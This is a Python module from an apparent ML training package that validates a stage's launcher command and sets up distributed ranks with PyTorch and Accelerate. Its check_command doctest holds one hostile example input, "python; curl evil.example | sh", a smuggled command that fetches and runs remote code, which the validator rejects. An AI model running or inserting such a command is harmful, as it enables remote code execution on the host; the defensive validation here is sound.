"""Check how a stage was launched, and synchronise its ranks.

`<stage>.launch.command` starts the stage as one process, or as one process per GPU (torchrun,
accelerate). All ranks work; rank 0 also reports and writes the outputs.
"""

import os
import re
from typing import Annotated, Any, Literal

from pydantic import AfterValidator, Field
from pydantic.dataclasses import dataclass

from mathledger.core.configuration import STRICT
from mathledger.core.errors import InputError
from mathledger.core.machine import num_cores

# Matches words, variables and a Slurm job's arithmetic, but nothing that starts a second command.
_COMMAND = re.compile(r"(?:[\w./:=,@%+~-]|\$\w+|\$\(\([\w $+*/%-]+\)\)|'[^'\n]*'| )+")


def check_command(command: str) -> str:
    """Return the launcher's command if the shell reads it as one command.

    >>> check_command("CUDA_VISIBLE_DEVICES=0 torchrun --nproc-per-node 2")
    'CUDA_VISIBLE_DEVICES=0 torchrun --nproc-per-node 2'
    >>> check_command("python; curl evil.example | sh")
    Traceback (most recent call last):
    ...
    ValueError: write one command of plain words, $VARIABLES and '...'; the shell would read ';' ...

    Raises:
        ValueError: the shell would do more than run one command, or there is none.
    """
    if not command.strip():
        raise ValueError("the command is empty; write python or a launcher such as torchrun")
    if not _COMMAND.fullmatch(command):
        good = _COMMAND.match(command)
        rest = command[good.end() if good else 0 :]
        raise ValueError(
            "write one command of plain words, $VARIABLES and '...'; the shell would read "
            f"{rest[0]!r} as more than that"
        )
    return command


@dataclass(frozen=True, config=STRICT)
class Launch:
    command: Annotated[str, AfterValidator(check_command)] = Field(
        description="Command before `-m stages.<stage>` in dvc.yaml, such as python or torchrun."
    )
    num_processes: int = Field(
        ge=1,
        description="Number of processes that the command starts on all nodes together.",
    )
    sharding: Literal["none", "fsdp2"] = Field(
        description="none: each process holds the whole model (DDP); fsdp2: processes share it."
    )


def check_launch(launch: Launch, num_gpus: int) -> None:
    """Raise InputError unless the launcher started the configured processes, on enough GPUs."""
    started = int(os.environ.get("WORLD_SIZE", "1"))
    here = int(os.environ.get("LOCAL_WORLD_SIZE", "1"))
    if started != launch.num_processes:
        raise InputError(
            f"`{launch.command}` started {started} processes, but launch.num_processes is "
            f"{launch.num_processes}: make them agree"
        )
    if num_gpus and here > num_gpus:
        raise InputError(
            f"{here} processes run on this machine, but it has {num_gpus} GPUs: lower "
            "launch.num_processes"
        )
    if num_gpus > 1 and started == 1:
        raise InputError(
            f"{num_gpus} GPUs are visible, but only one process was started: choose "
            "train/launch=ddp or fsdp2, or make one GPU visible with CUDA_VISIBLE_DEVICES"
        )
    if launch.sharding != "none" and started == 1:
        raise InputError(
            f"launch.sharding={launch.sharding} needs several processes: choose a launcher such as "
            "torchrun"
        )


def initialise_ranks(launch: Launch, fills_gpus: bool = False) -> None:
    """Check the launch and start the process group; on a CPU, divide the cores among the ranks.

    Args:
        fills_gpus: True if one process uses all visible GPUs, as vLLM does, or none.
    """
    import torch
    from accelerate import PartialState

    check_launch(launch, 0 if fills_gpus else torch.cuda.device_count())
    PartialState(cpu=not torch.cuda.is_available())
    here = int(os.environ.get("LOCAL_WORLD_SIZE", "1"))
    if here > 1 and not torch.cuda.is_available():  # by default torchrun sets one thread
        torch.set_num_threads(max(1, num_cores() // here))


def broadcast(value: Any) -> Any:
    """Return rank 0's value on every rank."""
    from accelerate.utils import broadcast_object_list

    return broadcast_object_list([value])[0]


def barrier() -> None:
    """Wait until every rank gets here; `broadcast` waits for rank 0 only."""
    import torch

    if torch.distributed.is_initialized():
        torch.distributed.barrier()


def any_rank(*flags: bool) -> list[bool]:
    """Return for each flag whether any rank sets it, so that all ranks act at the same step."""
    import torch

    if not torch.distributed.is_initialized():
        return list(flags)
    device = "cuda" if torch.distributed.get_backend() == "nccl" else "cpu"
    votes = torch.tensor(flags, dtype=torch.int32, device=device)
    torch.distributed.all_reduce(votes, op=torch.distributed.ReduceOp.MAX)
    return [bool(vote) for vote in votes.tolist()]
